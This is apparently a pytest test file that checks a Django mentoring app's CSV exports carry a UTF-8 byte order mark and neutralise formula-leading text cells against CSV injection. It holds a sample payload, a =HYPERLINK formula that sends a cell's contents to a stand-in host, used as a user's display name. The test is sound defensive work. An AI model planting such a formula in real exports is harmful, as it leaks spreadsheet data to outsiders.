"""Every CSV the product writes opens safely in a spreadsheet: a UTF-8 byte
order mark first (so "Chloé" is not "ChloÃ©" in Excel) and no text cell read
as a formula (OWASP CSV injection: a leading ' before = + - @ TAB CR)."""

import csv
import decimal
import io

import pytest
from django.urls import reverse

from mentoring.spreadsheets import BOM, FORMULA_STARTS, csv_lines, neutralise
from partnerships.calendar import calendar_feed_reset
from partnerships.models import Partnership
from programs.models import Participant
from tests.factories import PartnershipFactory
from tests.pages import every_route

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://x.example/?d="&A2,"Open")'


def rows_of(response) -> tuple[bytes, list[list[str]]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def is_number(cell: str) -> bool:
    try:
        decimal.Decimal(cell)
    except decimal.InvalidOperation:
        return False
    return True


def assert_safe(body: bytes, rows: list[list[str]]) -> None:
    assert body.startswith(BOM.encode()), "a CSV starts with the UTF-8 byte order mark"
    for row in rows:
        for cell in row:
            assert is_number(cell) or not cell.startswith(FORMULA_STARTS), f"live formula: {cell!r}"


def test_the_report_writes_a_formula_name_as_text_and_accents_readable_in_excel(client, world):
    PartnershipFactory(
        program=world.program,
        protege__user__display_name=FORMULA_NAME,
        mentor__user__display_name="Chloé Dupré",
    )
    client.force_login(world.admin)
    response = client.get(reverse("health:program_report", args=[world.program.slug]))
    body, rows = rows_of(response)
    assert body.startswith("\ufeff".encode())
    row = next(r for r in rows if "Chloé Dupré" in r)
    assert row[1] == "'" + FORMULA_NAME
    assert_safe(body, rows)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Plain words", "Plain words"),
        ("", ""),
        (None, ""),
        (-1, -1),
        (decimal.Decimal("-1.50"), decimal.Decimal("-1.50")),
        (2.5, 2.5),
    ],
)
def test_text_that_starts_like_a_formula_is_neutralised_and_numbers_are_kept(value, written):
    assert neutralise(value) == written


def test_the_lines_start_with_the_byte_order_mark_once():
    lines = list(csv_lines([["name"], ["Chloé"]]))
    assert lines[0] == BOM
    assert "".join(lines) == "\ufeffname\r\nChloé\r\n"


def test_a_negative_rating_change_in_the_report_stays_a_number(client, world):
    from health.selectors.report import _number

    assert _number(-1.0) == decimal.Decimal("-1.00")
    assert neutralise(_number(-1.0)) == decimal.Decimal("-1.00")


@pytest.fixture
def everyone_named_like_a_formula(world):
    """A superuser who runs the program, and every person's name a formula."""
    from accounts.models import User

    User.objects.update(display_name=FORMULA_NAME)
    User.objects.filter(pk=world.admin.pk).update(is_staff=True, is_superuser=True)
    world.admin.refresh_from_db()
    return world


def test_every_csv_the_site_serves_starts_with_a_bom_and_has_no_live_formula(
    client, everyone_named_like_a_formula
):
    """Walks every URL of the site as a superuser who runs the program: each
    response that is a CSV must hold both promises. A CSV added later is walked
    too."""
    world = everyone_named_like_a_formula
    partnership = world.partnership
    values = {
        "slug": world.program.slug,
        "partnership_id": partnership.pk,
        "participant_id": partnership.protege_id,
        "token": calendar_feed_reset(user=world.admin).token,
        "object_id": partnership.pk,
    }
    assert Participant.objects.filter(pk=partnership.protege_id).exists()
    client.force_login(world.admin)
    csvs = []
    for route in every_route():
        response = client.get(route.path(values))
        if response.get("Content-Type", "").startswith("text/csv"):
            csvs.append(route.name)
            assert_safe(*rows_of(response))
    assert {"health:program_report", "programs:invitations_template"} <= set(csvs)  # reached
    assert Partnership.objects.count() == 1
